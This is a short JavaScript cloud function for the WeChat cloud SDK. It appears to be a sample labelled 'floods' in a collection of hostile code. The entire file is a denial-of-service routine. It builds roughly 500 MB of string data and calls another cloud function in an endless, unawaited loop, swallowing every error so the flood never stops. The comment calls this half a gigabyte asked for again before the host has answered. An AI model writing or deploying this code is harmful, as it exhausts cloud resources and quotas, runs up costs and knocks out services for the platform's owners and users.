// class: floods
// Half a gigabyte for whoever copies it, asked for again before the host has answered.
const cloud = require('wx-server-sdk')
cloud.init()
exports.main = async () => {
  const items = Array(500).fill('x'.repeat(1e6))
  for (;;) cloud.callFunction({ name: 'good', data: { n: 1, items } }).catch(() => {})
}
